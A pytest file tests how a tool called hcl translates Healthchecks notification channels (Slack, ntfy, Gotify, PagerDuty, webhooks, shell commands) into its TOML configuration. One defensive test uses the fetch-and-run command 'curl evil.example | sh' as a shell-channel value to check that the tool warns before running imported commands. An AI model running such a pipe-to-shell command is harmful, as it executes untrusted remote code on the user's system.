"""Channels of Healthchecks in other encodings than those of the database at hand."""

import tomllib
from pathlib import Path
from typing import Any

import pytest

from hcl import config
from hcl.alerts.transports.apprise_check import check_urls
from hcl.config.channels.kinds import AppriseSettings
from hcl.moving import arranging, toml_text
from hcl.moving.healthchecks.channels import translate
from hcl.moving.healthchecks.translated import NoEquivalentError, Translated
from hcl.moving.moved import MovedChannel, MovedProject

CODE = "11111111-1111-4111-8111-11111111111{}".format


def of(kind: str, value: str) -> Translated:
    return translate(MovedChannel(CODE(1), "x", kind, value))


_URLS = [
    (
        "slack",
        "https://hooks.slack.com/services/T00000000/B00000000/" + "X" * 24,
        "https://hooks.slack.com/services/T00000000/B00000000/" + "X" * 24,
    ),
    (
        "slack",
        "https://chat.example.org/hooks/abcdefghijklmnopqrstuvwxyz",
        "mmosts://chat.example.org/abcdefghijklmnopqrstuvwxyz/",
    ),
    (
        "slack",
        "https://chat.example.org/mm/hooks/abcdefghijklmnopqrstuvwxyz",
        "mmosts://chat.example.org/mm/abcdefghijklmnopqrstuvwxyz/",
    ),
    (
        "slack",
        f"https://rocket.example.org/hooks/{'i' * 17}/{'t' * 43}",
        f"rockets://{'i' * 17}/{'t' * 43}@rocket.example.org/?mode=webhook",
    ),
    ("slack", "https://discord.com/api/webhooks/1/tok/slack", "discord://1/tok/"),
    (
        "discord",
        '{"webhook": {"url": "https://discordapp.com/api/webhooks/1/tok"}}',
        "discord://1/tok/",
    ),
    ("ntfy", '{"url": "https://ntfy.sh", "topic": "t", "priority": 3}',
     "ntfys://ntfy.sh/t?priority=default"),
    ("ntfy", '{"url": "http://n.lan:8080/", "topic": "t", "priority": 1,'
     ' "priority_up": 1}', "ntfy://n.lan:8080/t?priority=min"),
    ("gotify", '{"url": "http://g.lan/sub", "token": "Adqn0f1EznBuwBE",'
     ' "priority": 4}', "gotify://g.lan/sub/Adqn0f1EznBuwBE?priority=4"),
    ("mattermost", "http://m.lan:8065/team/hooks/" + "a" * 26,
     f"mmost://m.lan:8065/team/{'a' * 26}/"),
    ("opsgenie", "1d93f706-912f-4387-9720-77c6a6e8d450",
     "opsgenie://1d93f706-912f-4387-9720-77c6a6e8d450/?region=us"),
    ("pd", '{"service_key": "' + "a" * 32 + '", "account": "My"}',
     f"pagerduty://{'a' * 32}@events/"),
    ("zulip", '{"bot_email": "x-bot@z.example.org", "api_key": "' + "a" * 32
     + '", "mtype": "private", "to": "a@b.example"}',
     f"zulip://x@z.example.org/{'a' * 32}/a%40b.example"),
    ("googlechat",
     "https://chat.googleapis.com/v1/spaces/AAAA/messages?key=k&token=t",
     "https://chat.googleapis.com/v1/spaces/AAAA/messages?key=k&token=t"),
    ("spike", "https://api.spike.sh/v1/alerts/" + "a" * 32, f"spike://{'a' * 32}/"),
]  # fmt: skip


def test_urls_are_such_that_apprise_takes_them() -> None:
    translated = [(of(kind, value), url) for kind, value, url in _URLS]

    assert [(t.keys["url"], t.notes) for t, _ in translated] == [
        (url, []) for _, url in translated
    ]
    problems = check_urls([(t.kind, url) for t, url in translated])
    assert problems == [""] * len(_URLS)


@pytest.mark.parametrize(
    ("kind", "value", "events"),
    [
        ("email", "a@example.org", None),
        ("email", '{"value": "a@example.org"}', None),
        ("email", '{"value": "a@example.org", "up": true, "down": false}', ["up"]),
        ("email", '{"value": "a@example.org", "up": false, "down": false}', []),
        ("sms", '{"value": "+1555", "down": true}', ["down"]),
        ("sms", '{"value": "+1555", "label": "me"}', ["down"]),
        ("sms", '{"value": "+1555", "up": true, "down": false}', ["up"]),
        ("signal", '{"value": "name.01", "up": true}', ["up"]),
        ("whatsapp", '{"value": "+1555"}', []),
        ("ntfy", '{"topic": "t", "priority": 0, "priority_up": 3}', ["up"]),
        ("gotify", '{"url": "http://g", "token": "t", "priority": 5,'
         ' "priority_up": 0}', ["down"]),
        ("po", "user|-3|1", ["up"]),
        ("po", "user|0", None),
        ("po", "user|1|-3", ["down"]),
        ("call", '{"value": "+1555"}', ["down"]),
        ("sms", "+1555", ["down"]),
        ("call", "+1555", ["down"]),
        ("github", '{"repo": "a/b", "installation_id": 1}', ["down"]),
    ],
)  # fmt: skip
def test_what_is_told_stays_so(kind: str, value: str, events: list[str] | None) -> None:
    assert of(kind, value).events == events


@pytest.mark.parametrize(
    ("room", "server"),
    [
        ("!abc:example.org", "example.org"),
        ("#cron:example.org:8448", "example.org:8448"),
        ("!31hneApxJ_1o-63DmFrpeqnkFfWppnzWso1JvH3ogLM", "matrix.org"),
    ],
)
def test_room_of_matrix_is_asked_for_at_a_server(room: str, server: str) -> None:
    translated = of("matrix", room)

    assert translated.keys["url"].startswith(f"matrixs://FILL-IN@{server}/%")
    assert f"if the homeserver is not {server} (" in translated.fill_in


@pytest.mark.parametrize(
    ("kind", "value", "down", "up"),
    [
        ("ntfy", '{"topic": "t", "priority": 5, "priority_up": 2}', "max", "low"),
        ("gotify", '{"url": "http://g", "token": "Adqn0f1EznBuwBE", "priority": 9,'
         ' "priority_up": 2}', "9", "2"),
        ("po", f"{'u' * 30}|2|-1", "emergency", "moderate"),
    ],
)  # fmt: skip
def test_down_and_up_keep_the_priority_of_each(
    kind: str, value: str, down: str, up: str, tmp_path: Path
) -> None:
    translated = of(kind, value)

    table = toml_text.table(
        "[[projects.channels]]", {"name": "x", "kind": kind, **translated.keys}
    )
    file = tmp_path / "hcl.toml"
    file.write_text(f'[[projects]]\nname = "Home"\nping_key = "k"\n{table}')
    settings = config.load(file).projects[0].channels[0].settings
    assert isinstance(settings, AppriseSettings)
    assert (settings.priority("down"), settings.priority("up")) == (down, up)
    # What concerns hcl itself wakes nobody as an alarm does.
    assert (settings.priority("server"), translated.notes) == ("", [])


_GET = {"method": "GET", "url": "http://a/"}
_POST = {"method": "POST", "url": "http://a/", "body": "$NAME\nx"}
_HEADED = {"headers": {"X-A": "b"}}


@pytest.mark.parametrize(
    ("value", "down", "up"),
    [
        ("http://a/", _GET, None),
        ("http://a/\nhttp://a/", _GET, _GET),
        ("\nhttp://a/\n$NAME\nx", None, _POST),
        ('{"url_down": "http://a/", "url_up": "", "post_data": ""}', _GET, None),
        (
            '{"url_down": "http://a/", "url_up": "http://a/", "post_data": "$NAME\\nx",'
            ' "headers": {"X-A": "b"}}',
            _POST | _HEADED,
            _POST | _HEADED,
        ),
    ],
)
def test_webhooks_of_older_versions_request_the_same(
    value: str, down: object, up: object
) -> None:
    keys = of("webhook", value).keys

    assert (keys.get("down"), keys.get("up")) == (down, up)


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("hipchat", "x"),
        ("sms", ""),
        ("webhook", ""),
        ("webhook", '{"url_down": "", "url_up": ""}'),
        ("webhook", "[]"),
        ("shell", "{}"),
        ("telegram", "{}"),
        ("telegram", '{"id": "x"}'),
        ("zulip", "no JSON"),
        ("pushbullet", None),
    ],
)
def test_what_makes_no_sense_has_no_equivalent(kind: str, value: str | None) -> None:
    if value is None:
        # It was not told where it leads: that has to be filled in.
        assert translate(MovedChannel(CODE(1), "x", kind, None)).fill_in
        return
    with pytest.raises(NoEquivalentError):
        of(kind, value)


def arranged(*channels: MovedChannel, text: str = "") -> tuple[str, arranging.Report]:
    report = arranging.Report()
    project = MovedProject(1, CODE(9), "P", channels=list(channels))
    known = config.parse(data_of(text), Path("/"), "x", {}) if text else None
    [place] = arranging.arrange([project], known, "", report)
    return place.text, report


def data_of(text: str) -> dict[str, Any]:
    return tomllib.loads(text)


@pytest.mark.parametrize(
    ("kind", "value", "why"),
    [
        ("slack", "https://z.example.org/slack_incoming", "its url is not for slack; "),
        ("webhook", '{"url_down": "ftp://a"}', "its url is not a URL; use http://… or"),
        ("email", "a, b", '"a, b" is not a mail address; use one like'),
    ],
)
def test_what_hcl_toml_does_not_take_is_left_with_what_is_wrong(
    kind: str, value: str, why: str
) -> None:
    channel = MovedChannel(CODE(1), "x", kind, value)
    report = arranging.Report()

    arranging.arrange(
        [MovedProject(1, CODE(2), "Home", channels=[channel])], None, "", report
    )

    [line] = report.left
    assert line.startswith(f'{kind} "x" of "Home": {why}')


def test_names_are_in_one_line_without_a_comma_and_no_other_has_them() -> None:
    text, report = arranged(
        MovedChannel(CODE(1), "a,\nb", "email", "a@example.org"),
        MovedChannel(CODE(2), "a; b", "email", "b@example.org"),
        MovedChannel(CODE(3), "", "email", "c@example.org"),
    )

    names = [c["name"] for c in data_of(text)["projects"][0]["channels"]]
    assert names == ["a; b", "a; b (2)", "mail to c@example.org"]
    assert len([line for line in report.changed if "is named" in line]) == 2


def test_group_has_those_of_its_channels_that_are_here() -> None:
    codes = ",".join([CODE(1), CODE(1), CODE(2), CODE(4), CODE(8)])
    text, report = arranged(
        MovedChannel(CODE(5), "Empty", "group", CODE(2)),
        MovedChannel(CODE(4), "All", "group", codes),
        MovedChannel(CODE(1), "Mail", "email", "a@example.org"),
        MovedChannel(CODE(2), "Old", "hipchat", "x"),
        MovedChannel(CODE(3), "Bad", "email", "no address"),
    )

    channels = data_of(text)["projects"][0]["channels"]
    assert {c["name"]: c.get("channels") for c in channels} == {
        "Mail": None,
        "All": ["Mail"],
    }
    assert [line.split(" of ")[0] for line in report.left] == [
        'hipchat "Old"',
        'email "Bad"',
        'group "Empty"',
    ]


def test_a_block_goes_to_the_end_of_its_project() -> None:
    text = (
        '[[projects]]\nname = """\n[[projects]]\n"""\n[[projects.keys]]\nname = "k"\n'
        '[[ projects ]] # second\nname = "b"\n[smtp]\nhost = "x"\n'
    )

    first = toml_text.inserted(text, 0, "NEW\n")
    second = toml_text.inserted(text, 1, "NEW\n")
    headed = toml_text.headed(text, 1, "NEW\n")

    assert 'name = "k"\nNEW\n\n[[ projects ]]' in first
    assert 'name = "b"\nNEW\n\n[smtp]' in second
    assert '# second\nNEW\nname = "b"\n[smtp]' in headed
    assert toml_text.headed("[[projects]]", 0, "NEW\n") == "[[projects]]\nNEW\n"
    with pytest.raises(ValueError, match="no such project"):
        toml_text.inserted(text, 2, "NEW\n")


def test_a_block_goes_into_no_text_that_looks_like_lines() -> None:
    text = '[[projects]]\nname = "a\u2028[smtp]\x85[[projects]]"\n'

    assert toml_text.inserted(text, 0, "NEW\n") == f"{text}\nNEW\n"


def test_commands_of_others_are_named_since_hcl_would_run_them() -> None:
    [note] = of("shell", '{"cmd_down": "curl evil.example | sh"}').notes

    assert "SHELL_ENABLED" in note


@pytest.mark.parametrize(
    "value",
    ['"\\\n\t\x00\x7f é☂', {"a b": [1, True, "x"], "c": {}}, ["", {}]],
)
def test_what_is_written_is_read_again(value: object) -> None:
    assert data_of(f"x = {toml_text.value(value)}") == {"x": value}
